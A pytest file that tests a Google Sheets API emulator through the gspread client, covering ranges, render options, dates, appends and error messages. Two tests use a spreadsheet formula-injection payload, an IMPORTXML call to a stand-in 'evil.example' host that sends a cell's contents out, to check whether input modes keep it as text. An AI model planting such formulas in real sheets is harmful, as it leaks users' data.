"""spreadsheets.values.* through the real gspread client.

Expected shapes come from the live API as recorded in gspread's own test cassettes
(tests/cassettes/*.json in burnash/gspread), e.g. trailing blanks trimmed per row and the
whole-grid ``range`` echo for a sheet-wide read.
"""

from __future__ import annotations

from collections.abc import Iterator

import gspread
import pytest
from gspread.utils import ValueInputOption, ValueRenderOption
from sheets_support import Emulated, call, fresh

from relationkit.testing.emulator.server import GoogleEmulator


@pytest.fixture(scope="module")
def server() -> Iterator[GoogleEmulator]:
    with GoogleEmulator() as running:
        yield running


@pytest.fixture
def emu(server: GoogleEmulator) -> Emulated:
    return fresh(server)


@pytest.fixture
def sh(emu: Emulated) -> gspread.Spreadsheet:
    return emu.gc.create("Customers")


GRID = [["A1", "B1", "", "D1"], ["", "b2", "", ""], ["", "", "", ""], ["A4", "B4", "", "D4"]]


def test_update_response_and_read_back(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    response = ws.update(GRID, "A1")
    assert response == {
        "spreadsheetId": sh.id,
        "updatedRange": "Sheet1!A1:D4",
        "updatedRows": 4,
        "updatedColumns": 4,
        "updatedCells": 16,
    }
    assert ws.get_all_values() == GRID


def test_reads_trim_trailing_blanks_and_echo_the_clamped_range(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.resize(4, 4)
    ws.update(GRID, "A1")
    assert sh.values_get("'Sheet1'") == {
        "range": "Sheet1!A1:D4",
        "majorDimension": "ROWS",
        "values": [["A1", "B1", "", "D1"], ["", "b2"], [], ["A4", "B4", "", "D4"]],
    }
    assert sh.values_get("Sheet1!C1:C3") == {"range": "Sheet1!C1:C3", "majorDimension": "ROWS"}


@pytest.mark.parametrize(
    ("asked", "echoed"),
    [
        ("Sheet1", "Sheet1!A1:Z1000"),
        ("Sheet1!A2:Z", "Sheet1!A2:Z1000"),
        ("Sheet1!A:A", "Sheet1!A1:A1000"),
        ("Sheet1!2:3", "Sheet1!A2:Z3"),
        ("Sheet1!A2:2", "Sheet1!A2:Z2"),
        ("Sheet1!B3", "Sheet1!B3"),
        ("Sheet1!$B$1:$A$2", "Sheet1!A1:B2"),
        ("A1:B2", "Sheet1!A1:B2"),
    ],
)
def test_open_ranges_are_clamped_to_the_grid(
    sh: gspread.Spreadsheet, asked: str, echoed: str
) -> None:
    assert sh.values_get(asked)["range"] == echoed


def test_open_range_values(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([["id", "name"], [1, "Ann"], [2, "Bob"], [3, "Cid"]])
    assert ws.get("A2:Z") == [["1", "Ann"], ["2", "Bob"], ["3", "Cid"]]
    assert ws.get("B:B") == [["name"], ["Ann"], ["Bob"], ["Cid"]]
    assert ws.get("2:3") == [["1", "Ann"], ["2", "Bob"]]


def test_sheet_names_that_need_quotes(sh: gspread.Spreadsheet) -> None:
    spaced = sh.add_worksheet("My Sheet", rows=10, cols=5)
    apostrophe = sh.add_worksheet("It's", rows=10, cols=5)
    cell_like = sh.add_worksheet("D3", rows=10, cols=5)
    assert spaced.update([["x", "y"]])["updatedRange"] == "'My Sheet'!A1:B1"
    assert apostrophe.update([["a"], ["b"]])["updatedRange"] == "'It''s'!A1:A2"
    assert cell_like.update([["c"]])["updatedRange"] == "'D3'!A1"
    assert sh.values_get("'It''s'!A:A") == {
        "range": "'It''s'!A1:A10",
        "majorDimension": "ROWS",
        "values": [["a"], ["b"]],
    }
    got = sh.values_batch_get(["'My Sheet'!A1:B2", "'It''s'!A2"])
    assert [vr["range"] for vr in got["valueRanges"]] == ["'My Sheet'!A1:B2", "'It''s'!A2"]
    assert got["valueRanges"][0]["values"] == [["x", "y"]]
    assert spaced.get_all_values() == [["x", "y"]]


def test_batch_get(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update(GRID)
    ranges = ws.batch_get(["A1:B1", "B4:D4", "C1:C3"])
    assert [list(r) for r in ranges] == [[["A1", "B1"]], [["B4", "", "D4"]], []]
    assert [r.range for r in ranges] == ["Sheet1!A1:B1", "Sheet1!B4:D4", "Sheet1!C1:C3"]


def test_major_dimension_columns(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([["a", "b", "c"], ["1", "2"]], "A1", major_dimension="COLUMNS")
    assert ws.get_all_values() == [["a", "1"], ["b", "2"], ["c", ""]]
    assert ws.get("A1:B3", major_dimension="COLUMNS") == [["a", "b", "c"], ["1", "2"]]


def test_value_render_options(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([[1.5, "TRUE", "=A1*2", "12%", "1,234.5", "0042"]], value_input_option="USER_ENTERED")
    assert ws.get("A1:F1") == [["1.5", "TRUE", "3", "12%", "1,234.50", "42"]]
    unformatted = ws.get("A1:F1", value_render_option=ValueRenderOption.unformatted)
    assert unformatted == [[1.5, True, 3, 0.12, 1234.5, 42]]
    formula = ws.get("A1:F1", value_render_option=ValueRenderOption.formula)
    assert formula == [[1.5, True, "=A1*2", 0.12, 1234.5, 42]]


def test_dates_entered_as_text_become_serial_numbers(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([["2024-03-05", "3/5/2024", "2024-03-05 18:30"]], value_input_option="USER_ENTERED")
    assert ws.get("A1:C1") == [["2024-03-05", "3/5/2024", "2024-03-05 18:30:00"]]
    serial = ws.get(
        "A1:C1",
        value_render_option=ValueRenderOption.unformatted,
        date_time_render_option="SERIAL_NUMBER",
    )
    assert serial == [[45356, 45356, pytest.approx(45356.7708333)]]
    as_text = ws.get(
        "A1:B1",
        value_render_option=ValueRenderOption.unformatted,
        date_time_render_option="FORMATTED_STRING",
    )
    assert as_text == [["2024-03-05", "3/5/2024"]]


def test_raw_dates_stay_text(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([["2024-03-05"]], value_input_option=ValueInputOption.raw)
    assert ws.get("A1", value_render_option=ValueRenderOption.unformatted) == [["2024-03-05"]]


def test_raw_keeps_formula_injection_as_text(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    payload = '=IMPORTXML("https://evil.example/?q="&A2, "//a")'
    ws.update([[payload, "+1+2", "-x"]], value_input_option=ValueInputOption.raw)
    assert ws.get("A1:C1") == [[payload, "+1+2", "-x"]]
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.formula) == [
        [payload, "+1+2", "-x"]
    ]


def test_user_entered_turns_text_into_formulas(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    payload = '=IMPORTXML("https://evil.example", "//a")'
    ws.update([[payload, "=3/2", "-x"]], value_input_option=ValueInputOption.user_entered)
    assert ws.get("A1:C1", value_render_option=ValueRenderOption.formula) == [
        [payload, "=3/2", "=-x"]
    ]
    assert ws.get("A1:C1") == [["#NAME?", "1.5", "#NAME?"]]
    assert ws.get("B1", value_render_option=ValueRenderOption.unformatted) == [[1.5]]


def test_update_outside_the_grid_is_refused(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    with pytest.raises(gspread.exceptions.APIError) as caught:
        ws.update([["x"]], "A1001")
    assert caught.value.code == 400
    assert caught.value.error["message"] == (
        "Range (Sheet1!A1001) exceeds grid limits. Max rows: 1000, max columns: 26"
    )
    with pytest.raises(gspread.exceptions.APIError) as caught:
        ws.update([list(range(30))], "A5")
    assert "Range (Sheet1!A5:AD5) exceeds grid limits" in caught.value.error["message"]
    with pytest.raises(gspread.exceptions.APIError):
        ws.get("A1:AA2")
    assert ws.get_all_values() == [[]]


def test_update_bigger_than_its_range_is_refused(sh: gspread.Spreadsheet) -> None:
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.sheet1.update([["a"], ["b"], ["c"]], "A1:B2")
    assert caught.value.error["message"] == (
        "Requested writing within range ['Sheet1'!A1:B2], but tried writing to row [3]"
    )


def test_unparseable_ranges(sh: gspread.Spreadsheet) -> None:
    for bad in ("Nope!A1", "Sheet1!A0", "'Sheet1!A1"):
        with pytest.raises(gspread.exceptions.APIError) as caught:
            sh.values_get(bad)
        assert caught.value.code == 400
        assert caught.value.error == {
            "code": 400,
            "message": f"Unable to parse range: {bad}",
            "status": "INVALID_ARGUMENT",
            "errors": [
                {
                    "message": f"Unable to parse range: {bad}",
                    "domain": "global",
                    "reason": "badRequest",
                }
            ],
        }


def test_values_must_be_a_list_of_lists(sh: gspread.Spreadsheet) -> None:
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.values_update("Sheet1!A1", params={"valueInputOption": "RAW"}, body={"values": "X"})
    assert caught.value.error["message"] == (
        "Invalid value at 'data.values' (type.googleapis.com/google.protobuf.ListValue), \"X\""
    )
    assert caught.value.error["details"][0]["fieldViolations"][0]["field"] == "data.values"


def test_value_input_option_is_required(sh: gspread.Spreadsheet) -> None:
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.values_update("Sheet1!A1", params={}, body={"values": [["x"]]})
    assert caught.value.error["message"] == "'valueInputOption' is required but not specified"
    with pytest.raises(gspread.exceptions.APIError) as caught:
        sh.values_update(
            "Sheet1!A1", params={"valueInputOption": "TYPED"}, body={"values": [["x"]]}
        )
    assert "ValueInputOption" in caught.value.error["message"]


def test_null_leaves_a_cell_alone_and_empty_string_clears_it(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([["a", "b", "c"]])
    ws.update([[None, "", "C"]])
    assert ws.get_all_values() == [["a", "", "C"]]


def test_include_values_in_response(sh: gspread.Spreadsheet) -> None:
    response = sh.sheet1.update(
        [["=1+1", "2024-03-05"]],
        "B2",
        value_input_option=ValueInputOption.user_entered,
        include_values_in_response=True,
        response_value_render_option=ValueRenderOption.unformatted,
    )
    assert response["updatedData"] == {
        "range": "Sheet1!B2:C2",
        "majorDimension": "ROWS",
        "values": [[2, 45356]],
    }


def test_batch_update_values(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    response = ws.batch_update(
        [{"range": "A1:B1", "values": [["id", "name"]]}, {"range": "A2", "values": [[1, "Ann"]]}]
    )
    assert response["totalUpdatedCells"] == 4
    assert response["totalUpdatedRows"] == 2
    assert response["totalUpdatedSheets"] == 1
    assert [r["updatedRange"] for r in response["responses"]] == ["Sheet1!A1:B1", "Sheet1!A2:B2"]
    assert ws.get_all_values() == [["id", "name"], ["1", "Ann"]]


def test_batch_update_values_is_atomic(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    with pytest.raises(gspread.exceptions.APIError):
        ws.batch_update(
            [{"range": "A1", "values": [["written?"]]}, {"range": "A1001", "values": [["x"]]}]
        )
    assert ws.get_all_values() == [[]]


def test_append_to_an_empty_sheet_then_after_the_table(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    first = ws.append_row(["id", "name"])
    assert "tableRange" not in first
    assert first["updates"]["updatedRange"] == "Sheet1!A1:B1"
    second = ws.append_rows([[1, "Ann"], [2, "Bob"]])
    assert second["tableRange"] == "Sheet1!A1:B1"
    assert second["updates"]["updatedRange"] == "Sheet1!A2:B3"
    assert ws.get_all_values() == [["id", "name"], ["1", "Ann"], ["2", "Bob"]]


def test_append_finds_the_table_like_google(sh: gspread.Spreadsheet) -> None:
    """The live API appends a row with an empty middle cell after the *last* block (cassette
    WorksheetTest.test_append_row_with_empty_value), and after A1's block for range A1."""
    row = ["x 1", "", "x 3"]
    ws = sh.sheet1
    ws.append_row(row)
    response = ws.append_row(row)
    assert response["tableRange"] == "Sheet1!C1"
    assert response["updates"]["updatedRange"] == "Sheet1!C2:E2"
    other = sh.add_worksheet("Other", 10, 10)
    other.append_row(row)
    response = other.append_row(row, table_range="A1")
    assert response["tableRange"] == "Other!A1"
    assert response["updates"]["updatedRange"] == "Other!A2:C2"


def test_append_grows_the_grid_and_insert_rows_shifts(sh: gspread.Spreadsheet) -> None:
    ws = sh.add_worksheet("Small", rows=2, cols=2)
    ws.update([["h1", "h2"], ["a", "b"]])
    ws.append_rows([["c", "d", "e"]])
    fresh = sh.worksheet("Small")
    assert (fresh.row_count, fresh.col_count) == (3, 3)
    ws.append_rows([["top"]], table_range="A1", insert_data_option="INSERT_ROWS")
    assert ws.get_all_values() == [
        ["h1", "h2", ""],
        ["a", "b", ""],
        ["c", "d", "e"],
        ["top", "", ""],
    ]
    sh.values_append(
        "Small!A1",
        {"valueInputOption": "RAW", "insertDataOption": "INSERT_ROWS"},
        {"values": [["mid"]]},
    )


def test_insert_row_writes_at_the_inserted_row(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update([["h"], ["a"], ["b"]])
    ws.insert_row(["new"], 2)
    ws.insert_rows([["first"]], 1)
    assert ws.get_all_values() == [["first"], ["h"], ["new"], ["a"], ["b"]]
    assert sh.worksheet("Sheet1").row_count == 1002


def test_clear_and_batch_clear(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update(GRID)
    ws.format("A1", {"textFormat": {"bold": True}})
    assert ws.batch_clear(["A1:B1", "D:D"]) == {
        "spreadsheetId": sh.id,
        "clearedRanges": ["Sheet1!A1:B1", "Sheet1!D1:D1000"],
    }
    assert ws.get_all_values() == [["", ""], ["", "b2"], ["", ""], ["A4", "B4"]]
    assert ws.clear() == {"spreadsheetId": sh.id, "clearedRange": "Sheet1!A1:Z1000"}
    assert ws.get_all_values() == [[]]


def test_get_all_records(sh: gspread.Spreadsheet) -> None:
    ws = sh.sheet1
    ws.update(
        [["name", "visits", "vip"], ["Ann", "3", "TRUE"], ["Bob", "", "FALSE"]],
        value_input_option="USER_ENTERED",
    )
    assert ws.get_all_records() == [
        {"name": "Ann", "visits": 3, "vip": "TRUE"},
        {"name": "Bob", "visits": "", "vip": "FALSE"},
    ]


def test_owner_edits_are_seen_by_clients(emu: Emulated, sh: gspread.Spreadsheet) -> None:
    emu.sheets.set_values(sh.id, "Sheet1", [["id", "email"], ["1", "a@example.com"]])
    emu.sheets.owner_edit(sh.id, "Sheet1", "C2", "2024-03-05")
    assert sh.sheet1.get_all_values() == [["id", "email", ""], ["1", "a@example.com", "2024-03-05"]]
    assert emu.sheets.get_values(sh.id, "Sheet1") == [
        ["id", "email"],
        ["1", "a@example.com", "2024-03-05"],
    ]
    assert emu.sheets.get_values(sh.id, "Sheet1", "C2", render="UNFORMATTED_VALUE") == [
        ["2024-03-05"]
    ]
    assert emu.sheets.get_cell(sh.id, "Sheet1", "C2")["effectiveValue"] == {"numberValue": 45356}


def test_unknown_spreadsheet_is_404(emu: Emulated) -> None:
    with pytest.raises(gspread.SpreadsheetNotFound):
        emu.gc.open_by_key("does-not-exist")
    status, body = call(emu.sheets, "GET", "/v4/spreadsheets/nope/values/A1")
    assert status == 404
    assert body["error"]["message"] == "Requested entity was not found."
    assert body["error"]["status"] == "NOT_FOUND"


def test_path_ranges_arrive_percent_encoded(emu: Emulated) -> None:
    spreadsheet_id = emu.sheets.create_spreadsheet("Enc", {"My Sheet": [["x"]]})
    status, body = call(
        emu.sheets, "GET", f"/v4/spreadsheets/{spreadsheet_id}/values/%27My%20Sheet%27%21A1"
    )
    assert status == 200
    assert body == {"range": "'My Sheet'!A1", "majorDimension": "ROWS", "values": [["x"]]}
